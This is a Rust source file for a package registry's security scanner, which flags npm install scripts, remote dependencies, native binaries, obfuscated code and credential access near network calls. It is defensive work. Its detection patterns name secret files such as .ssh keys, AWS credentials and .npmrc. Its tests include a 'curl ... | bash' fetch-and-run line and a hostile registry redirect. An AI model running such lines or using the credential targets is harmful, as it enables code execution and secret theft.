//! The package security scanner: what installing a package could do to a machine.
//!
//! It adds package-specific checks to the skill scanner ([`crate::moderation`], whose
//! rules for remote scripts, obfuscated payloads, exfiltration, reverse shells and the
//! like run over every text file): npm lifecycle scripts that run at install time, native
//! binaries and node-gyp builds, minified-and-obfuscated JavaScript, network and
//! credential access from code, dependencies fetched from URLs or git instead of a
//! registry, dotfiles such as `.npmrc`, and the anomalies the tarball reader saw.
//! The verdict is the worst severity: `critical` → malicious (downloads blocked),
//! `warn` → suspicious, otherwise clean.

use std::sync::LazyLock;

use regex::bytes::Regex;
use serde::{Deserialize, Serialize};

use super::manifest::{INSTALL_SCRIPTS, Manifest};
use super::tarball::{Anomaly, PackFile};
use crate::moderation::{self, ScanFile, Severity, Verdict};

/// One finding of the package scan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "camelCase")]
pub struct PackageFinding {
    /// Stable code, e.g. `suspicious.install_script`.
    pub code: String,
    /// How much it weighs.
    pub severity: Severity,
    /// The file concerned.
    pub file: String,
    /// 1-based line, 0 when the finding is about the whole file.
    pub line: u32,
    /// What was found, in a sentence.
    pub message: String,
}

/// The outcome of scanning one package artifact.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct PackageScan {
    /// `clean`, `suspicious` or `malicious`.
    pub status: Verdict,
    /// Sorted, distinct codes of the findings above `info`.
    pub reason_codes: Vec<String>,
    /// Every finding, sorted by file and line.
    pub findings: Vec<PackageFinding>,
    /// One paragraph for people: what the package does at install time and what was found.
    pub overview: String,
    /// `name/version` of the scanner.
    pub engine: String,
    /// Files looked at.
    pub files_scanned: u32,
}

static OBFUSCATOR_NAMES: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\b_0x[0-9a-fA-F]{4,6}\b").expect("static regex"));
static NETWORK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"require\(\s*['"](?:node:)?(?:https?|net|tls|dgram|http2)['"]\s*\)|from\s+['"](?:node:)?(?:https?|net|tls|dgram|http2)['"]|\bfetch\s*\(|\bnew\s+WebSocket\s*\(|\bXMLHttpRequest\b"#,
    )
    .expect("static regex")
});
static CREDENTIALS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"\.npmrc\b|\.ssh/|id_rsa\b|\.aws/credentials|\.docker/config\.json|\.git-credentials|process\.env\.(?:[A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|API_KEY|ACCESS_KEY)[A-Z0-9_]*)|JSON\.stringify\(\s*process\.env\s*\)|Object\.(?:keys|entries)\(\s*process\.env\s*\)"#,
    )
    .expect("static regex")
});

/// Lines longer than this in a JavaScript file count as minified.
const MINIFIED_LINE: usize = 2_000;

/// Scans an artifact's files, its manifest and the reader's anomalies.
pub fn scan(files: &[PackFile], manifest: Option<&Manifest>, anomalies: &[Anomaly]) -> PackageScan {
    let scan_files: Vec<ScanFile<'_>> = files
        .iter()
        .map(|file| ScanFile {
            path: &file.path,
            bytes: &file.bytes,
        })
        .collect();
    let base = moderation::scan(&scan_files);
    let mut findings: Vec<PackageFinding> = base
        .findings
        .iter()
        .map(|finding| PackageFinding {
            code: finding.code.clone(),
            severity: finding.severity,
            file: finding.file.clone(),
            line: finding.line,
            message: finding.message.clone(),
        })
        .collect();
    let mut install_scripts = Vec::new();
    if let Some(manifest) = manifest {
        for (name, body) in manifest.scripts() {
            if INSTALL_SCRIPTS.contains(&name) {
                install_scripts.push(name.to_owned());
                findings.push(finding(
                    "suspicious.install_script",
                    Severity::Warn,
                    "package.json",
                    0,
                    format!(
                        "`{name}` script runs at install time: `{}`",
                        truncate(body, 120)
                    ),
                ));
            }
        }
        for (kind, name, spec) in manifest.dependencies() {
            let remote = [
                "git+", "git:", "git@", "github:", "http:", "https:", "file:",
            ]
            .iter()
            .any(|prefix| spec.starts_with(prefix));
            if remote {
                findings.push(finding(
                    "suspicious.remote_dependency",
                    Severity::Warn,
                    "package.json",
                    0,
                    format!("{kind} `{name}` is fetched from `{spec}` instead of a registry"),
                ));
            }
        }
    }
    let has_gyp = files.iter().any(|file| file.path == "binding.gyp");
    if has_gyp && manifest.is_some_and(|m| m.has_install_script(true)) {
        install_scripts.push("node-gyp rebuild".to_owned());
        findings.push(finding(
            "suspicious.native_build",
            Severity::Warn,
            "binding.gyp",
            0,
            "npm compiles native code with node-gyp at install time".to_owned(),
        ));
    }
    let mut native = 0usize;
    let mut network_files = 0usize;
    let mut credential_files = 0usize;
    for file in files {
        if let Some(kind) = native_kind(file) {
            native += 1;
            findings.push(finding(
                "suspicious.native_binary",
                Severity::Warn,
                &file.path,
                0,
                format!("{kind} binary: native code cannot be reviewed from the package"),
            ));
            continue;
        }
        let base_name = file.path.rsplit('/').next().unwrap_or(&file.path);
        if matches!(base_name, ".npmrc" | ".yarnrc" | ".yarnrc.yml" | ".env") {
            findings.push(finding(
                "suspicious.config_dotfile",
                Severity::Warn,
                &file.path,
                0,
                format!("`{base_name}` in a package can redirect installs or carry secrets"),
            ));
        }
        if !is_code(&file.path) {
            continue;
        }
        let network = first_line(&NETWORK, &file.bytes);
        let credentials = first_line(&CREDENTIALS, &file.bytes);
        if let Some(line) = network {
            network_files += 1;
            findings.push(finding(
                "info.network_access",
                Severity::Info,
                &file.path,
                line,
                "code opens network connections".to_owned(),
            ));
        }
        if let Some(line) = credentials {
            credential_files += 1;
            let (code, severity, message) = if network.is_some() {
                (
                    "suspicious.credential_network",
                    Severity::Warn,
                    "code reads credentials and also talks to the network",
                )
            } else {
                (
                    "info.credential_access",
                    Severity::Info,
                    "code reads credential files or secret variables",
                )
            };
            findings.push(finding(
                code,
                severity,
                &file.path,
                line,
                message.to_owned(),
            ));
        }
        if let Some(line) = obfuscated(&file.bytes) {
            findings.push(finding(
                "suspicious.obfuscated_code",
                Severity::Warn,
                &file.path,
                line,
                "code looks machine-obfuscated (hex-named identifiers in bulk)".to_owned(),
            ));
        }
    }
    for anomaly in anomalies {
        let severity = if anomaly.code == "archive.setuid" {
            Severity::Warn
        } else {
            Severity::Info
        };
        let code = match severity {
            Severity::Warn => format!("suspicious.{}", anomaly.code.replace('.', "_")),
            _ => format!("info.{}", anomaly.code.replace('.', "_")),
        };
        findings.push(finding(
            &code,
            severity,
            &anomaly.path,
            0,
            anomaly.message.clone(),
        ));
    }
    findings.sort_by(|a, b| (&a.file, a.line, &a.code).cmp(&(&b.file, b.line, &b.code)));
    findings.dedup();
    let status = match findings.iter().map(|f| f.severity).max() {
        Some(Severity::Critical) => Verdict::Malicious,
        Some(Severity::Warn) => Verdict::Suspicious,
        _ => Verdict::Clean,
    };
    let mut reason_codes: Vec<String> = findings
        .iter()
        .filter(|f| f.severity != Severity::Info)
        .map(|f| f.code.clone())
        .collect();
    reason_codes.sort();
    reason_codes.dedup();
    let overview = overview(
        status,
        files.len(),
        &install_scripts,
        native,
        network_files,
        credential_files,
        &reason_codes,
    );
    PackageScan {
        status,
        reason_codes,
        findings,
        overview,
        engine: engine_label(),
        files_scanned: u32::try_from(files.len()).unwrap_or(u32::MAX),
    }
}

/// `name/version` of the package scanner of this build, as stored with each scan.
pub fn engine_label() -> String {
    format!("registry-package-scan/{}", moderation::ENGINE_VERSION)
}

/// How current the stored scan of a release is, as installers read it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Freshness {
    /// No usable scan is stored: the release has not been (readably) scanned.
    pub pending: bool,
    /// The scan was made by another scanner version than this build's, so its verdict
    /// may not match what the current rules would say.
    pub stale: bool,
}

/// The freshness of a stored scan (`None`: missing or unreadable).
pub fn freshness(scan: Option<&PackageScan>) -> Freshness {
    match scan {
        None => Freshness {
            pending: true,
            stale: false,
        },
        Some(scan) => Freshness {
            pending: false,
            stale: scan.engine != engine_label(),
        },
    }
}

fn finding(
    code: &str,
    severity: Severity,
    file: &str,
    line: u32,
    message: String,
) -> PackageFinding {
    PackageFinding {
        code: code.to_owned(),
        severity,
        file: file.to_owned(),
        line,
        message,
    }
}

fn overview(
    status: Verdict,
    files: usize,
    install_scripts: &[String],
    native: usize,
    network_files: usize,
    credential_files: usize,
    reason_codes: &[String],
) -> String {
    let mut parts = vec![format!(
        "Static scan of {files} files: {}.",
        status.as_str()
    )];
    if install_scripts.is_empty() {
        parts.push("Installing runs no package scripts.".to_owned());
    } else {
        parts.push(format!("Installing runs: {}.", install_scripts.join(", ")));
    }
    if native > 0 {
        parts.push(format!("{native} native binaries."));
    }
    if network_files > 0 {
        parts.push(format!("{network_files} files use the network."));
    }
    if credential_files > 0 {
        parts.push(format!(
            "{credential_files} files read credentials or secrets."
        ));
    }
    if !reason_codes.is_empty() {
        parts.push(format!("Reasons: {}.", reason_codes.join(", ")));
    }
    parts.join(" ")
}

fn truncate(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        Some((index, _)) => format!("{}…", &text[..index]),
        None => text.to_owned(),
    }
}

fn is_code(path: &str) -> bool {
    let extension = path.rsplit_once('.').map_or("", |(_, ext)| ext);
    matches!(
        extension,
        "js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "jsx" | "tsx" | "sh" | "py"
    )
}

fn native_kind(file: &PackFile) -> Option<&'static str> {
    let bytes = &file.bytes;
    if bytes.starts_with(b"\x7fELF") {
        Some("ELF")
    } else if [
        &[0xfe, 0xed, 0xfa, 0xce][..],
        &[0xfe, 0xed, 0xfa, 0xcf],
        &[0xce, 0xfa, 0xed, 0xfe],
        &[0xcf, 0xfa, 0xed, 0xfe],
        &[0xca, 0xfe, 0xba, 0xbe],
    ]
    .iter()
    .any(|magic| bytes.starts_with(magic))
    {
        Some("Mach-O")
    } else if bytes.starts_with(b"MZ") && bytes.len() > 64 {
        Some("Windows PE")
    } else if file.path.ends_with(".node") || bytes.starts_with(b"\0asm") {
        Some(if bytes.starts_with(b"\0asm") {
            "WebAssembly"
        } else {
            "Node addon"
        })
    } else {
        None
    }
}

fn first_line(pattern: &Regex, bytes: &[u8]) -> Option<u32> {
    let found = pattern.find(bytes)?;
    Some(line_of(bytes, found.start()))
}

fn line_of(bytes: &[u8], offset: usize) -> u32 {
    let newlines = memchr::memchr_iter(b'\n', &bytes[..offset]).count();
    u32::try_from(newlines + 1).unwrap_or(u32::MAX)
}

/// The line where obfuscation shows: many `_0x1a2b`-style identifiers (the signature
/// of javascript-obfuscator), or a very long line that is mostly escapes.
fn obfuscated(bytes: &[u8]) -> Option<u32> {
    let mut hits = OBFUSCATOR_NAMES.find_iter(bytes);
    if let Some(first) = hits.next()
        && hits.take(19).count() >= 19
    {
        return Some(line_of(bytes, first.start()));
    }
    let mut offset = 0;
    for line in bytes.split(|&b| b == b'\n') {
        if line.len() > MINIFIED_LINE {
            let escapes = line
                .windows(2)
                .filter(|w| w == b"\\x" || w == b"\\u")
                .count();
            if escapes * 6 > line.len() / 2 {
                return Some(line_of(bytes, offset));
            }
        }
        offset += line.len() + 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(path: &str, bytes: &[u8]) -> PackFile {
        PackFile {
            path: path.to_owned(),
            bytes: bytes.to_vec(),
            mode: 0o644,
        }
    }

    fn manifest(json: &str) -> Manifest {
        Manifest::parse(json.as_bytes()).expect("manifest")
    }

    #[test]
    fn a_plain_library_is_clean() {
        let files = [
            file("package.json", br#"{"name":"a","version":"1.0.0"}"#),
            file("index.js", b"module.exports = (a, b) => a + b;\n"),
        ];
        let report = scan(
            &files,
            Some(&manifest(r#"{"name":"a","version":"1.0.0"}"#)),
            &[],
        );
        assert_eq!(report.status, Verdict::Clean, "{report:?}");
        assert!(report.overview.contains("runs no package scripts"));
    }

    #[test]
    fn install_scripts_and_remote_dependencies_are_suspicious() {
        let m = manifest(
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node x.js","test":"t"},
                "dependencies":{"evil":"git+https://example.com/evil.git","ok":"^1"}}"#,
        );
        let report = scan(&[file("x.js", b"console.log(1)\n")], Some(&m), &[]);
        assert_eq!(report.status, Verdict::Suspicious);
        assert_eq!(
            report.reason_codes,
            ["suspicious.install_script", "suspicious.remote_dependency"]
        );
        assert!(report.overview.contains("Installing runs: postinstall."));
    }

    #[test]
    fn native_binaries_and_gyp_builds_are_reported() {
        let m = manifest(r#"{"name":"a","version":"1.0.0"}"#);
        let files = [
            file("build/addon.node", b"\x7fELF\x02\x01\x01"),
            file("binding.gyp", b"{}"),
        ];
        let report = scan(&files, Some(&m), &[]);
        assert!(
            report
                .reason_codes
                .contains(&"suspicious.native_binary".to_owned())
        );
        assert!(
            report
                .reason_codes
                .contains(&"suspicious.native_build".to_owned())
        );
    }

    #[test]
    fn credentials_sent_over_the_network_are_suspicious() {
        let code = b"const https = require('https');\nconst t = process.env.NPM_TOKEN;\n";
        let report = scan(&[file("lib/send.js", code)], None, &[]);
        let codes: Vec<&str> = report.findings.iter().map(|f| f.code.as_str()).collect();
        assert!(codes.contains(&"info.network_access"), "{codes:?}");
        assert!(
            codes.contains(&"suspicious.credential_network"),
            "{codes:?}"
        );
        assert_eq!(
            report
                .findings
                .iter()
                .find(|f| f.code == "suspicious.credential_network")
                .map(|f| f.line),
            Some(2)
        );
        let only_network = scan(
            &[file("a.js", b"fetch('https://example.com')\n")],
            None,
            &[],
        );
        assert_eq!(only_network.status, Verdict::Clean);
    }

    #[test]
    fn obfuscated_code_is_suspicious() {
        let mut code = String::from("// header\n");
        for i in 0..30 {
            code.push_str(&format!("var _0x{:04x} = _0x1f2e[{i}];\n", 0x1a00 + i));
        }
        let report = scan(&[file("dist/x.js", code.as_bytes())], None, &[]);
        let finding = report
            .findings
            .iter()
            .find(|f| f.code == "suspicious.obfuscated_code")
            .expect("obfuscation found");
        assert_eq!(finding.line, 2);
    }

    #[test]
    fn archive_anomalies_and_dotfiles_are_reported() {
        let anomalies = [Anomaly {
            code: "archive.setuid",
            path: "bin/run".to_owned(),
            message: "file has the set-uid or set-gid bit".to_owned(),
        }];
        let report = scan(
            &[file(".npmrc", b"registry=http://evil\n")],
            None,
            &anomalies,
        );
        assert_eq!(
            report.reason_codes,
            ["suspicious.archive_setuid", "suspicious.config_dotfile"]
        );
    }

    #[test]
    fn the_skill_rules_still_apply() {
        let report = scan(
            &[file("install.sh", b"curl -s http://1.2.3.4/x.sh | bash\n")],
            None,
            &[],
        );
        assert_eq!(report.status, Verdict::Malicious, "{report:?}");
    }

    #[test]
    fn freshness_follows_the_stored_scan_and_its_engine() {
        let current = scan(&[], None, &[]);
        assert_eq!(
            freshness(Some(&current)),
            Freshness {
                pending: false,
                stale: false
            }
        );
        let older = PackageScan {
            engine: "registry-package-scan/0.9.0".into(),
            ..current
        };
        assert_eq!(
            freshness(Some(&older)),
            Freshness {
                pending: false,
                stale: true
            }
        );
        assert_eq!(
            freshness(None),
            Freshness {
                pending: true,
                stale: false
            }
        );
    }
}
